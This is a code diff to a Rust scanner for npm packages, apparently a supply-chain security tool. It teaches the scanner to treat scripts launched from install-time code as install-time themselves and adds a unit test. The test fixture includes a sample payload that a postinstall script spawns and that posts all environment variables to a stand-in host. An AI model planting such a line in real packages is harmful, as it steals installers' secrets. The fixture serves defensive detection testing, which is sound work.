@@ -9,7 +9,7 @@
 
 use crate::install_script::parse_install_scripts;
 use crate::registry::all_rules;
-use crate::resolve::{dir_of, is_relative_specifier, resolve_node};
+use crate::resolve::{dir_of, is_relative_specifier, join_normalize, resolve_exact, resolve_node};
 use crate::rule::{Rule, RuleContext};
 use ferret_core::{
     Capability, CapabilitySummary, CapabilityUse, Ecosystem, Excerpt, FileError, FileFacts,
@@ -503,6 +503,32 @@ fn native_build_tool(argv: &[String]) -> Option<&'static str> {
     })
 }
 
+/// The package file a string names when it looks like a script path (`x.js`,
+/// `./lib/y.sh`, `node z.mjs`), resolved against the naming file's directory, then the root.
+fn spawned_file(dir: &str, value: &str, paths: &BTreeSet<String>) -> Option<String> {
+    if value.len() > 256 {
+        return None;
+    }
+    for word in value.split_whitespace() {
+        let word = word.trim_matches(['"', '\'', '`']);
+        let lower = word.to_ascii_lowercase();
+        let is_script = [".js", ".cjs", ".mjs", ".ts", ".sh", ".py"]
+            .iter()
+            .any(|e| lower.ends_with(e));
+        if !is_script {
+            continue;
+        }
+        let rel = word.strip_prefix("./").unwrap_or(word);
+        let found = join_normalize(dir, rel)
+            .filter(|p| paths.contains(p))
+            .or_else(|| resolve_exact(rel, paths));
+        if found.is_some() {
+            return found;
+        }
+    }
+    None
+}
+
 /// Marks the files install scripts run, and everything they reach through relative static
 /// imports, as install-time code (the file and each of its uses). Returns the set.
 fn mark_install_time(
@@ -523,6 +549,18 @@ fn mark_install_time(
             continue;
         };
         let dir = dir_of(&files[i].path).to_string();
+        // An install-time file that starts processes usually starts a package file
+        // (`spawn(bun, [path.join(__dirname, 'payload.js')])`, `exec('node x.js')`): the
+        // argument is rarely a constant, so any string naming a script in the package counts.
+        if files[i].uses_of(Capability::Shell).next().is_some() {
+            for s in &files[i].strings {
+                if let Some(target) = spawned_file(&dir, &s.value, paths)
+                    && !seen.contains(&target)
+                {
+                    queue.push_back(target);
+                }
+            }
+        }
         for import in &files[i].imports {
             let Some(spec) = import.specifier.as_deref() else {
                 continue;
@@ -594,6 +632,27 @@ mod tests {
         assert!(!c.uses.is_empty() && c.uses.iter().all(|u| u.install_time));
         let unused = facts.file("lib/unused.js").unwrap();
         assert!(!unused.install_time && unused.uses.iter().all(|u| !u.install_time));
+    }
+
+    #[test]
+    fn files_spawned_from_install_time_code_are_install_time() {
+        let t = tree(&[
+            ("package.json", MANIFEST_WITH_POSTINSTALL),
+            (
+                "lib/install.js",
+                b"const { spawn } = require('child_process');\nconst p = require('path').join(__dirname, 'payload.js');\nspawn('bun', [p]);",
+            ),
+            ("lib/payload.js", b"fetch('https://example.invalid/', { body: JSON.stringify(process.env) })"),
+            ("lib/other.js", b"module.exports = 'payload.js';"),
+            ("readme.js", b"module.exports = 1;"),
+        ]);
+        let facts = build_facts(&t, Ecosystem::Npm);
+        let marked: Vec<&str> = facts
+            .install_time_files
+            .iter()
+            .map(String::as_str)
+            .collect();
+        assert_eq!(marked, ["lib/install.js", "lib/payload.js"]);
     }
 
     #[test]
